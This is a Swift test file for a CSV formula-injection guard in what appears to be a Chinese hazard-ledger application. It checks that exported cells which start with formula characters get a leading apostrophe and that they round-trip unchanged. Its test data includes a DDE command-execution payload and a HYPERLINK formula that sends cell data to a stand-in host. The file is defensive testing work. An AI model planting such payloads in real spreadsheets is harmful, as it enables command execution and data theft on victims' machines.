import DutyCore
import Testing

@Suite("Formula injection in exported ledgers")
struct FormulaGuardTests {
    typealias At = SimulationClock

    @Test("cells a spreadsheet would run get a ' in front; text and negative numbers do not", arguments: [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"),
        (#"=HYPERLINK("http://x.example/?"&A1,"点击")"#, #"'=HYPERLINK("http://x.example/?"&A1,"点击")"#),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("--1", "'--1"), ("-1.", "'-1."), ("-.5", "'-.5"),
        ("'=1", "''=1"), ("''+1", "'''+1"),
        ("-2", "-2"), ("-0.5", "-0.5"), ("更换灭火器", "更换灭火器"), ("'引号开头", "'引号开头"), ("a=1", "a=1"), ("", ""),
    ])
    func escapes(cell: String, written: String) {
        #expect(FormulaGuard.escaped(cell) == written)
        #expect(FormulaGuard.unescaped(written) == cell)
    }

    @Test("a ledger with formulas in every text column exports neutralised and imports back unchanged")
    func ledgerRoundTrip() throws {
        let configuration = try At.exampleConfiguration()
        let clock = WallClock(zoneIdentifier: configuration.daemon.timeZone)
        let hostile = LedgerFixtures.header + """

            1,东港区第一幼儿园,"=cmd|' /C calc'!A0",+1+1,@SUM(1),较大,-2+3,"=HYPERLINK(""http://x.example"",""点击"")",2026-12-01,-2
            2,东港区第一幼儿园,'=已转义,''+两个引号,消防,一般,-2,吴志强,2026-12-01,
            """
        var book = HazardBook(settings: configuration.hazards)
        _ = book.apply(try LedgerFixtures.plan(hostile, book: book, configuration: configuration).get(), actor: "a", now: At.at(9, 15, 9))
        let entries = book.hazards(matching: HazardFilter(), tree: configuration.tree, now: At.at(9, 15, 9)).map(\.entry)
        #expect(entries.map(\.location) == ["=cmd|' /C calc'!A0", "=已转义"])
        #expect(entries.map(\.description) == ["+1+1", "'+两个引号"])

        let exported = LedgerExport.csv(book.hazards(matching: HazardFilter(), tree: configuration.tree, now: At.at(9, 15, 9)), tree: configuration.tree, clock: clock)
        let cells = try CSVParser.parse(exported, file: "导出.csv").rows.flatMap(\.fields)
        let formulas = cells.filter { cell in cell != "-2" && cell.first.map { "=+-@\t\r".contains($0) } == true }
        #expect(formulas.isEmpty, "exported unescaped: \(formulas)")
        for cell in ["'=cmd|' /C calc'!A0", "'+1+1", "'@SUM(1)", "'-2+3", #"'=HYPERLINK("http://x.example","点击")"#, "'=已转义", "''+两个引号", "-2"] {
            #expect(cells.contains(cell), "\(cell) not in \(cells)")
        }

        #expect(try LedgerFixtures.plan(exported, book: book, configuration: configuration).get().unchanged.count == 2)
        var fresh = HazardBook(settings: configuration.hazards)
        _ = fresh.apply(try LedgerFixtures.plan(exported, book: fresh, configuration: configuration).get(), actor: "b", now: At.at(9, 18, 9))
        #expect(LedgerExport.csv(fresh.hazards(matching: HazardFilter(), tree: configuration.tree, now: At.at(9, 18, 9)), tree: configuration.tree, clock: clock) == exported)
    }
}
